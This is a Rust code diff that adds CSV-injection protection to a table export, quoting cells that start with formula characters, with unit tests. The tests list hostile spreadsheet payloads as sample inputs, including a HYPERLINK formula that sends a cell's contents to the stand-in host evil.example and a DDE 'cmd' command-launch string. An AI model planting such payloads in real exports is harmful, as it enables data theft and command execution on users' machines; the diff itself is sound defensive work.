@@ -37,6 +37,25 @@ impl FileFormat {
     }
 }
 
+/// A CSV cell that a spreadsheet will not run as a formula: text beginning with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice on CSV
+/// injection); a number (`-5`, `+3.5`) stays a number.
+pub fn defuse(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_number(cell) { format!("'{cell}").into() } else { cell.into() }
+}
+
+/// A plain decimal number, optionally signed: `-5`, `+3.5`, `42,2`.
+fn is_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let mut parts = digits.splitn(2, ['.', ',']);
+    let whole = parts.next().unwrap_or("");
+    let frac = parts.next();
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
+}
+
 impl Table {
     /// The response carrying this table as `file_stem.csv` or `file_stem.xlsx`.
     pub fn respond(&self, format: FileFormat, file_stem: &str) -> Result<HttpResponse, ApiError> {
@@ -56,11 +75,10 @@ impl Table {
     fn csv(&self) -> Result<Vec<u8>, ApiError> {
         let io = |e: csv::Error| ApiError::internal(format!("csv: {e}"));
         let mut w = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
-        w.write_record(&self.header).map_err(io)?;
+        w.write_record(self.header.iter().map(|h| defuse(h).into_owned())).map_err(io)?;
         for row in &self.rows {
-            let mut r = row.clone();
-            r.resize(self.header.len(), String::new());
-            w.write_record(&r).map_err(io)?;
+            let cells = row.iter().map(|c| defuse(c).into_owned()).chain(std::iter::repeat(String::new()));
+            w.write_record(cells.take(self.header.len())).map_err(io)?;
         }
         w.into_inner().map_err(|e| ApiError::internal(format!("csv: {e}")))
     }
@@ -91,5 +109,29 @@ impl Table {
         sheet.set_freeze_panes(3, 0).map_err(fail)?;
         sheet.autofit();
         book.save_to_buffer().map_err(fail)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::defuse;
+
+    #[test]
+    fn formulas_are_defused_and_numbers_stay_numbers() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+            "-",
+            "+",
+        ] {
+            assert_eq!(defuse(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for kept in ["-5", "+3.5", "42,2", "0", "Nguyễn Văn A", "2024-000123", "a=b", ""] {
+            assert_eq!(defuse(kept), kept);
+        }
     }
 }
